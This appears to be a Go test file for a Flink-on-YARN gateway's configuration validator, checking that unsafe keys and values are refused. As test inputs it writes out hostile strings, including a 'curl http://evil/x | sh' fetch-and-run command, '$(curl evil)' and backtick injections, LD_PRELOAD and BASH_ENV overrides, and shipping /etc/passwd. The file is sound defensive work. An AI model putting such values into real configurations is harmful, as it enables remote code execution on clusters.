package flink

import (
	"errors"
	"strings"
	"testing"
)

// TestCheckFlinkConfigRefuses: every key of the list, and the values of keys a request may set with
// care, are refused with a problem naming flinkConfig.<key>.
func TestCheckFlinkConfigRefuses(t *testing.T) {
	tests := []struct {
		key, value string
		reason     string // part of the reason
	}{
		{"env.java.opts.jobmanager", "-Dx=1; curl http://evil/x | sh #", "shell code"},
		{"env.java.opts", "-Dx=1", "shell code"},
		{"env.java.opts.all", "-Xmx1g", "shell code"},
		{"env.java.opts.taskmanager", "-XX:OnOutOfMemoryError=id", "shell code"},
		{"env.java.default-opts.jobmanager", "-Dx=1", "shell code"},
		{"env.java.home", "/opt/java", "shell code"},
		{"env.log.dir", "/tmp", "shell code"},
		{"ENV.JAVA.OPTS.JOBMANAGER", "-Dx=1", "shell code"},
		{"yarn.container-start-command-template", "%java% %class%; id", "shell code"},
		{"containerized.master.env.LD_PRELOAD", "/tmp/x.so", "LD_"},
		{"containerized.taskmanager.env.PATH", "/tmp", "PATH"},
		{"containerized.master.env.JAVA_TOOL_OPTIONS", "-Dx=1", "JAVA_"},
		{"containerized.master.env.HADOOP_USER_NAME", "hdfs", "HADOOP_"},
		{"containerized.master.env._FLINK_CLASSPATH", "x", "names are a letter"},
		{"containerized.master.env.FLINK_CONF_DIR", "/tmp", "FLINK_"},
		{"containerized.master.env.CLASSPATH", "x", "CLASSPATH"},
		{"containerized.master.env.BASH_ENV", "/tmp/x", "BASH_ENV"},
		{"containerized.master.env.A-B", "x", "names are a letter"},
		{"containerized.master.env.", "x", "1 to 128"},
		{"containerized.master.env.FOO", "$(curl evil)", "must not contain"},
		{"containerized.master.env.FOO", "`id`", "must not contain"},
		{"containerized.master.env.FOO", `a" ; id ; "`, "must not contain"},
		{"containerized.master.env.FOO", `a\`, "must not contain"},
		{"containerized.master.env.FOO", "a\nid", "must not contain"},
		{"containerized.taskmanager.env.FOO", "{{(id)}}", "must not contain"},
		{"containerized.master.env.FOO", strings.Repeat("x", maxEnvValueLen+1), "longer than"},
		{"containerized.master.env.FOO", "\xd5", "UTF-8"},
		{"containerized.heap-cutoff-ratio", "0.1", "only containerized"},
		{"yarn.application-master.env.FOO", "x", "deprecated"},
		{"yarn.taskmanager.env.FOO", "x", "deprecated"},
		{"yarn.tags", "team-a,yarngate-idem:0123", "gateway's"},
		{"yarn.tags", "YarnGate-Home:abc", "gateway's"},
		{"yarn.tags", "yarngate", "gateway's"},
		{"yarn.tags", "a,b,c,d,e,f,g,h,i,j,k", "at most"},
		{"yarn.application.name", "x", "name and queue"},
		{"yarn.application.queue", "root.x", "name and queue"},
		{"yarn.application.id", "application_1_1", "name and queue"},
		{"yarn.application.priority", "5", "name and queue"},
		{"yarn.view.acls", "*", "who may see"},
		{"yarn.modify.acls", "alice", "who may see"},
		{"high-availability.type", "zookeeper", "high-availability.type: none"},
		{"high-availability.storageDir", "hdfs:///ha", "high-availability.type: none"},
		{"high-availability.zookeeper.quorum", "zk:2181", "high-availability.type: none"},
		{"high-availability.zookeeper.client.acl", "creator", "high-availability.type: none"},
		{"high-availability", "none", "deprecated"},
		{"recovery.mode", "zookeeper", "deprecated"},
		{"recovery.zookeeper.quorum", "evil:2181", "deprecated"},
		{"web.port", "8081", "REST API"},
		{"jobmanager.web.submit.enable", "false", "REST API"},
		{"$internal.application.main", "x", "internal"},
		{"$internal.pipeline.job-id", "x", "internal"},
		{"internal.cluster.execution-mode", "DETACHED", "internal"},
		{"rest.address", "0.0.0.0", "REST API"},
		{"rest.port", "8081", "REST API"},
		{"rest.bind-address", "127.0.0.1", "REST API"},
		{"rest.bind-port", "8081", "REST API"},
		{"web.submit.enable", "false", "REST API"},
		{"web.cancel.enable", "false", "REST API"},
		{"security.kerberos.login.keytab", "/etc/k.keytab", "security settings"},
		{"security.ssl.rest.enabled", "true", "security settings"},
		{"security.delegation.tokens.enabled", "false", "security settings"},
		{"yarn.security.kerberos.ship-local-keytab", "true", "security settings"},
		{"pipeline.classpaths", "http://evil/x.jar", "class path"},
		{"pipeline.jars", "hdfs:///x.jar", "jarId"},
		{"execution.target", "local", "how the cluster runs"},
		{"execution.attached", "true", "how the cluster runs"},
		{"execution.shutdown-on-application-finish", "false", "how the cluster runs"},
		{"execution.submit-failed-job-on-application-error", "false", "how the cluster runs"},
		{"execution.savepoint.path", "hdfs:///sp", "savepoint"},
		{"execution.state-recovery.path", "hdfs:///sp", "savepoint"},
		{"jobmanager.archive.fs.dir", "hdfs:///elsewhere", "archive"},
		{"yarn.provided.lib.dirs", "hdfs:///libs", "stages"},
		{"yarn.ship-files", "/etc/passwd", "stages"},
		{"yarn.staging-directory", "hdfs:///x", "stages"},
		{"", "x", "a key is"},
		{" env.java.opts", "x", "a key is"},
		{"a\nenv.java.opts", "x", "a key is"},
	}
	for _, tc := range tests {
		t.Run(tc.key+"="+tc.value, func(t *testing.T) {
			got := CheckFlinkConfig(map[string]string{tc.key: tc.value, "execution.checkpointing.interval": "10s"})
			if len(got) != 1 || got[0].Field != "flinkConfig."+tc.key || !strings.Contains(got[0].Reason, tc.reason) {
				t.Fatalf("CheckFlinkConfig = %+v, want one problem on flinkConfig.%s saying %q", got, tc.key, tc.reason)
			}
		})
	}
}

// TestCheckFlinkConfigAccepts: what a job legitimately sets passes.
func TestCheckFlinkConfigAccepts(t *testing.T) {
	cfg := map[string]string{
		"execution.checkpointing.interval":               "10s",
		"state.checkpoints.dir":                          "hdfs:///ck",
		"high-availability.type":                         " None ",
		"containerized.master.env.TZ":                    "Europe/Paris",
		"containerized.taskmanager.env.MALLOC_ARENA_MAX": "4",
		"containerized.taskmanager.env.http_proxy":       "http://proxy:3128",
		"containerized.master.env.GREETING":              "it's a 'quoted' value; with spaces & (parens) | #",
		"yarn.tags":                                      "team-a, cost-center:42",
		"yarn.application-attempts":                      "3",
		"rest.server.max-content-length":                 "209715200",
		"rest.flamegraph.enabled":                        "true",
		"web.upload.dir":                                 "/tmp/uploads",
		"metrics.reporter.prom.factory.class":            "org.apache.flink.metrics.prometheus.PrometheusReporterFactory",
		"pipeline.name":                                  "sum",
		"taskmanager.memory.managed.fraction":            "0.2",
		"jobmanager.memory.off-heap.size":                "0",
		"environment.name":                               "not env.",
	}
	if got := CheckFlinkConfig(cfg); len(got) != 0 {
		t.Fatalf("CheckFlinkConfig = %+v, want none", got)
	}
}

// TestEveryRefusalRowRefuses walks the table itself: each row without an accept rule refuses its key (a
// key under it for prefixes) with its reason, through NewPlan too.
func TestEveryRefusalRowRefuses(t *testing.T) {
	for _, r := range refusedKeys {
		if r.accept != nil {
			continue
		}
		key := r.key
		if r.prefix {
			key += "sub"
		}
		t.Run(key, func(t *testing.T) {
			got := CheckFlinkConfig(map[string]string{key: "x"})
			if len(got) != 1 || got[0].Field != "flinkConfig."+key || got[0].Reason != r.reason {
				t.Fatalf("CheckFlinkConfig = %+v, want flinkConfig.%s: %s", got, key, r.reason)
			}
			spec, _ := testSpec(t, "2.2.1", stockConfig22)
			spec.FlinkConfig = map[string]string{key: "x"}
			_, err := NewPlan(spec)
			var fe *FieldError
			if !errors.Is(err, ErrInvalidSpec) || !errors.As(err, &fe) || !strings.Contains(err.Error(), "flinkConfig."+key+": ") {
				t.Fatalf("NewPlan = %v, want a problem on flinkConfig.%s", err, key)
			}
		})
	}
}

// TestPlanRefusesShellKeysFromTheGateway: configuration the gateway adds itself is held to the shell rows.
func TestPlanRefusesShellKeysFromTheGateway(t *testing.T) {
	spec, _ := testSpec(t, "2.2.1", stockConfig22)
	spec.GatewayConfig = map[string]string{"env.java.opts.jobmanager": "-Dx=1", "jobmanager.archive.fs.dir": "hdfs:///archive"}
	_, err := NewPlan(spec)
	if !errors.Is(err, ErrInvalidSpec) || !strings.Contains(err.Error(), "gatewayConfig.env.java.opts.jobmanager") ||
		strings.Contains(err.Error(), "archive") {
		t.Fatalf("NewPlan = %v, want only the JVM options refused", err)
	}
}

// TestPlanRefusesUnsafeJarURIs: a jar's URI reaches the AM's environment and class path.
func TestPlanRefusesUnsafeJarURIs(t *testing.T) {
	for _, uri := range []string{
		"hdfs://nn/jars/{{(id)}}.jar", "hdfs://nn/jars/a$(id).jar", "hdfs://nn/jars/a`id`.jar", "hdfs://nn/jars/a\"b.jar",
		"hdfs://nn/jars/a b.jar", "hdfs://nn/jars/a:b.jar", "hdfs://nn/j ars/a.jar", "hdfs://nn/jars/a\nb.jar", "hdfs://nn/jars/a'b.jar",
	} {
		spec, _ := testSpec(t, "2.2.1", stockConfig22)
		spec.UserJar.URI = uri
		if _, err := NewPlan(spec); !errors.Is(err, ErrInvalidSpec) || !strings.Contains(err.Error(), "jar: ") {
			t.Errorf("NewPlan(jar %q) = %v, want a problem on jar", uri, err)
		}
	}
}
